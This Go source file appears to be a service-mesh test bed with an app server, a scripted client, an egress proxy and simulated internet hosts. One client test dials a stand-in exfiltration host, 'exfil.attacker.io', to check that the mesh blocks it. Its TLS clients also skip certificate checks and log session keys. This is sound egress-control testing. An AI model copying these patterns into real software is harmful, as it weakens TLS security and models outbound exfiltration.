//go:build linux

package main

import (
	"context"
	"crypto/tls"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptrace"
	"net/netip"
	"os"
	"strconv"
	"strings"
	"sync"
	"time"
)

// appRecord is what an app or caller did, from its own side.
type appRecord struct {
	App    string `json:"app"`
	Dir    string `json:"dir"`   // outbound: the app called; inbound: the app served
	Local  string `json:"local"` // outbound: the app's socket; inbound: the app's listener
	Remote string `json:"remote"`
	Method string `json:"method,omitempty"`
	URL    string `json:"url,omitempty"`
	SNI    string `json:"sni,omitempty"`
	Status int    `json:"status,omitempty"`
	Err    string `json:"err,omitempty"`
	Start  string `json:"start"`
}

// runAppServer is a workload behind a sidecar: it answers on -listen and,
// for /productpage, calls -backend through its own sidecar first, as
// bookinfo's productpage calls reviews.
func runAppServer(args []string) {
	fs := flag.NewFlagSet("app-server", flag.ExitOnError)
	name := fs.String("name", "app", "name in the log")
	listen := fs.String("listen", ":9080", "address")
	backend := fs.String("backend", "", "URL called for /productpage")
	logPath := fs.String("log", "", "JSON lines of what the app did")
	fs.Parse(args)
	log := jsonLog{openLog(*logPath)}
	client := &http.Client{Transport: &http.Transport{DisableCompression: true, MaxIdleConnsPerHost: 8}}
	h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		start := time.Now()
		if r.URL.Path == "/productpage" && *backend != "" {
			callLogged(client, log, *name, "GET", *backend)
		}
		if d, err := time.ParseDuration(r.URL.Query().Get("delay")); err == nil && d < time.Second {
			time.Sleep(d)
		}
		status := http.StatusOK
		if strings.HasPrefix(r.URL.Path, "/missing") {
			status = http.StatusNotFound
		}
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(status)
		json.NewEncoder(w).Encode(map[string]string{"app": *name, "path": r.URL.Path})
		log.write(appRecord{App: *name, Dir: "inbound", Local: r.Context().Value(http.LocalAddrContextKey).(net.Addr).String(),
			Remote: r.RemoteAddr, Method: r.Method, URL: r.URL.RequestURI(), Status: status, Start: start.UTC().Format(time.RFC3339Nano)})
	})
	srv := &http.Server{Addr: *listen, Handler: h}
	if err := srv.ListenAndServe(); err != nil {
		fatalf("app-server: %v", err)
	}
}

// callLogged makes one request and logs it with the local address of the
// connection that carried it.
func callLogged(client *http.Client, log jsonLog, app, method, url string) int {
	var local, remote string
	ctx := httptrace.WithClientTrace(context.Background(), &httptrace.ClientTrace{GotConn: func(i httptrace.GotConnInfo) {
		local, remote = i.Conn.LocalAddr().String(), i.Conn.RemoteAddr().String()
	}})
	start := time.Now()
	rec := appRecord{App: app, Dir: "outbound", Method: method, URL: url, Start: start.UTC().Format(time.RFC3339Nano)}
	req, err := http.NewRequestWithContext(ctx, method, url, nil)
	if err != nil {
		fatalf("request: %v", err)
	}
	resp, err := client.Do(req)
	rec.Local, rec.Remote = local, remote
	if err != nil {
		rec.Err = err.Error()
		log.write(rec)
		return 0
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	rec.Status = resp.StatusCode
	log.write(rec)
	return resp.StatusCode
}

// runAppClient is the captured app's outbound scenario: mesh services
// (sequential and concurrent, so the sidecar pools and opens more
// connections), a blocked host, allowed passthrough hosts, a refused one,
// TLS of the app's own passed through and blocked, and an external API
// through the egress proxy.
func runAppClient(args []string) {
	fs := flag.NewFlagSet("app-client", flag.ExitOnError)
	name := fs.String("name", "app", "name in the log")
	logPath := fs.String("log", "", "JSON lines of what the app did")
	keys := fs.String("keys", "", "TLS key log of the app's own TLS")
	phase := fs.String("phase", "all", "which part: mesh, external, tls, all")
	fs.Parse(args)
	log := jsonLog{openLog(*logPath)}
	keyLog := openLog(*keys)
	tr := &http.Transport{DisableCompression: true, MaxIdleConnsPerHost: 8, IdleConnTimeout: time.Minute,
		TLSClientConfig: &tls.Config{InsecureSkipVerify: true, KeyLogWriter: keyLog}}
	client := &http.Client{Transport: tr, Timeout: 10 * time.Second}
	get := func(url string) {
		callLogged(client, log, *name, "GET", url)
		time.Sleep(15 * time.Millisecond)
	}
	if *phase == "mesh" || *phase == "all" {
		get("http://reviews.shop:9080/reviews/1")
		get("http://ratings.data:9080/ratings/1")
		get("http://reviews.shop:9080/reviews/2")
		get("http://reviews:9080/reviews/3") // short name within the namespace
		// At once, and slow to answer: the app opens more connections to
		// its sidecar, and the sidecar more to the services.
		var wg sync.WaitGroup
		ready := make(chan struct{})
		for _, u := range []string{"http://reviews.shop:9080/reviews/4?delay=30ms", "http://reviews.shop:9080/reviews/5?delay=45ms",
			"http://reviews.shop:9080/reviews/6?delay=30ms", "http://ratings.data:9080/ratings/2?delay=30ms",
			"http://ratings.data.svc.cluster.local:9080/ratings/3"} {
			wg.Add(1)
			go func() {
				defer wg.Done()
				<-ready
				callLogged(client, log, *name, "GET", u)
			}()
		}
		close(ready)
		wg.Wait()
		time.Sleep(15 * time.Millisecond)
		get("http://reviews.shop:9080/reviews/7")
	}
	if *phase == "external" || *phase == "all" {
		get("http://pastebin.com/raw/x1") // blocked: direct 502
		get("http://httpbin.org/get")     // passed through
		get("http://httpbin.org/status/503")
		get("http://down.example.net/")   // allowed, refused: 503 from the sidecar
		get("http://pastebin.com/raw/x2") // blocked again, on the kept connection
		get("http://api.payments.io.egress.local/v1/charges")
		get("http://api.payments.io.egress.local/v1/refunds")
	}
	if *phase == "tls" || *phase == "all" {
		get("https://api.github.com/zen")
		get("https://api.github.com/octocat")
		// TLS to a host the mesh does not allow: reset after the hello.
		start := time.Now()
		rec := appRecord{App: *name, Dir: "outbound", SNI: "exfil.attacker.io", URL: "tls://exfil.attacker.io:443", Start: start.UTC().Format(time.RFC3339Nano)}
		c, err := (&net.Dialer{Timeout: 3 * time.Second}).Dial("tcp4", "exfil.attacker.io:443")
		if err != nil {
			rec.Err = err.Error()
		} else {
			rec.Local, rec.Remote = c.LocalAddr().String(), c.RemoteAddr().String()
			tc := tls.Client(c, &tls.Config{ServerName: "exfil.attacker.io", InsecureSkipVerify: true, KeyLogWriter: keyLog})
			tc.SetDeadline(time.Now().Add(3 * time.Second))
			if err := tc.Handshake(); err != nil {
				rec.Err = err.Error()
			}
			c.Close()
		}
		log.write(rec)
	}
	tr.CloseIdleConnections()
}

// runCaller calls URLs, -n times each, over a keep-alive client.
func runCaller(args []string) {
	fs := flag.NewFlagSet("caller", flag.ExitOnError)
	name := fs.String("name", "caller", "name in the log")
	logPath := fs.String("log", "", "JSON lines")
	n := fs.Int("n", 1, "rounds")
	gap := fs.Duration("gap", 20*time.Millisecond, "pause between requests")
	fs.Parse(args)
	log := jsonLog{openLog(*logPath)}
	tr := &http.Transport{DisableCompression: true, MaxIdleConnsPerHost: 4}
	client := &http.Client{Transport: tr, Timeout: 10 * time.Second}
	for i := 0; i < *n; i++ {
		for _, u := range fs.Args() {
			callLogged(client, log, *name, "GET", u)
			time.Sleep(*gap)
		}
	}
	tr.CloseIdleConnections()
}

// runEgress is an egress proxy: a request for "HOST.egress.local" is sent
// on to HOST (addresses from -map), plain HTTP.
func runEgress(args []string) {
	fs := flag.NewFlagSet("egress", flag.ExitOnError)
	listen := fs.String("listen", ":80", "address")
	var maps multiFlag
	fs.Var(&maps, "map", "HOST=IP:PORT (repeatable)")
	fs.Parse(args)
	to := map[string]string{}
	for _, m := range maps {
		h, a, _ := strings.Cut(m, "=")
		to[h] = a
	}
	tr := &http.Transport{DisableCompression: true}
	h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		host, _ := strings.CutSuffix(hostOf(r.Host), ".egress.local")
		addr, ok := to[host]
		if !ok {
			http.Error(w, "unknown egress host", http.StatusForbidden)
			return
		}
		out, _ := http.NewRequest(r.Method, "http://"+addr+r.URL.RequestURI(), r.Body)
		out.Host = host
		resp, err := tr.RoundTrip(out)
		if err != nil {
			http.Error(w, err.Error(), http.StatusBadGateway)
			return
		}
		defer resp.Body.Close()
		for k, vs := range resp.Header {
			w.Header()[k] = vs
		}
		w.Header().Set("Via", "1.1 egress-proxy")
		w.WriteHeader(resp.StatusCode)
		io.Copy(w, resp.Body)
	})
	if err := http.ListenAndServe(*listen, h); err != nil {
		fatalf("egress: %v", err)
	}
}

// runInternet serves the bed's public hosts: -http ADDR=NAME and -https
// ADDR=NAME (repeatable). /status/N answers N.
func runInternet(args []string) {
	fs := flag.NewFlagSet("internet", flag.ExitOnError)
	var plain, secure multiFlag
	fs.Var(&plain, "http", "ADDR=NAME")
	fs.Var(&secure, "https", "ADDR=NAME")
	fs.Parse(args)
	handler := func(name string) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			status := http.StatusOK
			if n, ok := strings.CutPrefix(r.URL.Path, "/status/"); ok {
				if v, err := strconv.Atoi(n); err == nil {
					status = v
				}
			}
			w.Header().Set("Content-Type", "application/json")
			w.Header().Set("Server", name)
			w.WriteHeader(status)
			fmt.Fprintf(w, "{\"host\":%q,\"path\":%q}\n", r.Host, r.URL.Path)
		})
	}
	var wg sync.WaitGroup
	serve := func(spec string, tlsOn bool) {
		addr, name, _ := strings.Cut(spec, "=")
		ln, err := net.Listen("tcp4", addr)
		if err != nil {
			fatalf("listen %s: %v", addr, err)
		}
		if tlsOn {
			ln = tls.NewListener(ln, &tls.Config{Certificates: []tls.Certificate{selfCert(name)}, NextProtos: []string{"http/1.1"}})
		}
		wg.Add(1)
		go func() {
			defer wg.Done()
			srv := &http.Server{Handler: handler(name), TLSNextProto: map[string]func(*http.Server, *tls.Conn, http.Handler){}}
			srv.Serve(ln)
		}()
	}
	for _, p := range plain {
		serve(p, false)
	}
	for _, p := range secure {
		serve(p, true)
	}
	wg.Wait()
}

// runWait dials each address until it answers (at most 10 s).
func runWait(args []string) {
	deadline := time.Now().Add(10 * time.Second)
	for _, a := range args {
		ap := netip.MustParseAddrPort(a)
		for {
			c, err := net.DialTimeout("tcp4", ap.String(), 200*time.Millisecond)
			if err == nil {
				c.Close()
				break
			}
			if time.Now().After(deadline) {
				fatalf("%s does not answer: %v", a, err)
			}
			time.Sleep(20 * time.Millisecond)
		}
	}
}

func main() {
	if len(os.Args) < 2 {
		fatalf("usage: meshbed sidecar|app-server|app-client|caller|egress|internet|wait ...")
	}
	args := os.Args[2:]
	switch os.Args[1] {
	case "sidecar":
		runSidecar(args)
	case "app-server":
		runAppServer(args)
	case "app-client":
		runAppClient(args)
	case "caller":
		runCaller(args)
	case "egress":
		runEgress(args)
	case "internet":
		runInternet(args)
	case "wait":
		runWait(args)
	default:
		fatalf("unknown command %q", os.Args[1])
	}
}
